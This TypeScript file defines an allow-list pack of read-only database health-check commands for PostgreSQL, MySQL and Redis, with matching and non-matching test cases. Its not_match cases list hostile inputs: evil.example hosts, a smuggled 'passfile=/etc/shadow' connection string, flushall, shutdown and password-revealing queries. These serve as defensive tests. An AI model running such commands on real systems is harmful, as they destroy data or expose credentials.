import type { Pack } from './pack.ts';

/** The clients offer what the account keeps for a server (`.pgpass`, `.my.cnf`), so only servers that the rule names. */
const SERVER = '{localhost,127.0.0.1,$hosts}';
const SOCKET = '{localhost,127.0.0.1,$hosts,/run/postgresql,/var/run/postgresql}';
const AT = `-h|--host ${SOCKET} -p|--port <int:1..65535>`;
const MYSQL = `-h|--host ${SERVER} -P|--port <int:1..65535> -u|--user <name>`;
const REDIS = `-h ${SERVER} -p <int:1..65535> -n <int:0..255> --no-auth-warning`;
const SETTING = 'maxmemory,maxmemory-policy,maxclients,timeout,save,appendonly,databases';
const SECTION =
  'server,clients,memory,persistence,stats,replication,cpu,keyspace,commandstats,errorstats,latencystats,cluster,modules,all,everything';

/** Whether databases answer. No query, no password among the words, no file. */
export const DB_PING: Pack = {
  name: 'db-ping',
  summary:
    'Whether PostgreSQL, MySQL, Redis and their kin answer, and how large they are, on this host or the hosts given.',
  parameter: { name: 'hosts', of: 'names', example: 'db.internal', fallback: 'localhost' },
  sets: [
    {
      commands: [
        `pg_isready [-q|--quiet ${AT} -d|--dbname <name> -U|--username <name> -t|--timeout <int:0..60>]`,
        `psql <with -X -w> (-l|--list) [${AT} -U|--username <name> -q|--quiet -t|--tuples-only -A|--no-align -x|--expanded --csv]`,
        `{mysqladmin,mariadb-admin} [${MYSQL} --connect-timeout=<int:1..60>] {ping,status,extended-status,version}`,
        `redis-cli [${REDIS}] {ping,PING,dbsize,DBSIZE,lastsave,LASTSAVE,role,ROLE}`,
        `redis-cli [${REDIS}] {info,INFO} [{${SECTION}}]`,
        `redis-cli [${REDIS}] {config,CONFIG} {get,GET} {${SETTING}}`,
        `redis-cli [${REDIS}] {client,CLIENT} {list,LIST}`,
      ],
    },
  ],
  match: [
    'pg_isready',
    'pg_isready -h localhost -p 5432 -q',
    'pg_isready -h db.internal -t 3',
    'psql -l',
    'psql -U app -h /run/postgresql -lqt',
    'mysqladmin ping',
    'mysqladmin -h db.internal status',
    'mysqladmin -uroot extended-status',
    'redis-cli ping',
    'redis-cli -h 127.0.0.1 -p 6379 info memory',
    'redis-cli -h db.internal info',
    'redis-cli -n 1 dbsize',
    'redis-cli config get maxmemory-policy',
    'redis-cli client list',
  ],
  not_match: [
    "psql -c 'select 1'",
    'psql',
    'psql -l -f /tmp/x',
    'psql -lo /tmp/x',
    'psql -l -v x=1',
    'psql -lL /tmp/x',
    "pg_isready -d 'host=evil passfile=/etc/shadow'",
    'pg_isready -h evil.example',
    'pg_isready -h /tmp',
    'psql -l -h evil.example',
    'mysqladmin -h evil.example ping',
    'redis-cli -h evil.example ping',
    'redis-cli -u redis://evil.example info',
    'redis-cli -s /tmp/x ping',
    'redis-cli config get requirepass',
    'redis-cli config get maxmemory requirepass',
    'redis-cli client kill 1',
    'mysqladmin processlist',
    'mysqladmin -h localhost -S /tmp/x ping',
    'mysqladmin shutdown',
    'mysqladmin flush-hosts',
    'mysqladmin --defaults-file=/tmp/x ping',
    'mysqladmin -psecret ping',
    'mysqladmin ping shutdown',
    'redis-cli flushall',
    'redis-cli config get dir',
    'redis-cli ping -x',
    'redis-cli --eval /tmp/x.lua',
    'redis-cli -a secret ping',
    'redis-cli --rdb /tmp/x',
    'redis-cli keys x',
    'mysql',
  ],
};
